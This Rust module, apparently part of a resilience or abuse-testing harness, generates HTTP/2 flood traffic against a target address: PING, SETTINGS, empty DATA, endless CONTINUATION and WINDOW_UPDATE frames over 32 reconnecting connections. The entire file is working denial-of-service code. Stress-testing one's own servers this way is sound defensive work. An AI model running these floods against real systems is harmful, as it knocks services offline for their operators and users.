//! Frames of HTTP/2 that cost their sender nothing.

use super::*;
use crate::abuse::http2::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PREFACE, SETTINGS, WINDOW_UPDATE, frame,
    request,
};

const CONNECTIONS: usize = 32;
/// Frames between two looks at the clock.
const FRAMES: usize = 1_000;

pub(super) fn run(field: &Field) -> Result<Made> {
    let mut made = Made { open_max: CONNECTIONS, ..Made::default() };
    let block = request("POST", "/v1/streams/abused/records", &field.headers, &[]);
    let (mut pings, mut settings) = (Vec::new(), Vec::new());
    let (mut empty, mut endless, mut windows) = (Vec::new(), Vec::new(), Vec::new());
    frame(&mut empty, HEADERS, END_HEADERS, 1, &block);
    frame(&mut endless, HEADERS, 0, 1, &block);
    for _ in 0..FRAMES {
        frame(&mut pings, PING, 0, 0, b"12345678");
        frame(&mut settings, SETTINGS, 0, 0, &[]);
        frame(&mut empty, DATA, 0, 1, &[]);
        frame(&mut endless, CONTINUATION, 0, 1, b"\0\x01a\x01b");
        frame(&mut windows, WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]);
    }
    let floods = [pings, settings, empty, endless, windows];
    let mut wires: Vec<Option<Wire>> = (0..CONNECTIONS).map(|_| None).collect();
    while !field.is_over() {
        for (index, wire) in wires.iter_mut().enumerate() {
            let is_new = wire.is_none();
            if is_new {
                *wire = reopen(field.address, &mut made);
            }
            let Some(open) = wire else { continue };
            let flood = &floods[index % floods.len()];
            let begun = !is_new || open.send_some(PREFACE).is_ok();
            // Of each kind, some leave the answers unread.
            let sent = open.send_some(flood).unwrap_or(0);
            made.sent_bytes += sent as u64;
            if !begun || sent < flood.len() || (index % 2 == 0 && !open.drain()) {
                *wire = None;
            }
        }
    }
    Ok(made)
}
